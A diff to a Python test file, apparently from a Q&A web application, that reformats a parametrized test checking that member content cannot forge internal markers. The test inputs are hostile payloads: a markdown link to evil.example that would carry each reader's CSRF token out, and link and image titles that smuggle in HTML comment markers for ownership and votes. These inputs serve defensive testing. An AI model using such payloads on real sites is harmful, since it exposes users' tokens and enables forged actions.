@@ -138,8 +138,9 @@ def _csrf_token(html: str) -> str:
         # The probe's exploit: the old placeholder in a link, filled with each reader's token.
         "[l](http://evil.example/l?t=\ue0f0csrf\ue0f1)",
         "\ue0f0csrf\ue0f1 in plain text",
-        # Markers carried inside an attribute, where the sanitizer keeps "<" as is.
-        '[l](http://evil.example/ "<!--fc:own:1-->x<!--/fc-->") and ![i](http://evil.example/i.png "<!--fc:vote:1:2-->")',
+        # Markers carried inside attributes.
+        '[l](http://evil.example/ "<!--fc:own:1-->x<!--/fc-->") '
+        'and ![i](http://evil.example/i.png "<!--fc:vote:1:2-->")',
     ],
 )
 def test_member_content_cannot_forge_a_marker(qa, asker, answerer, third, body):
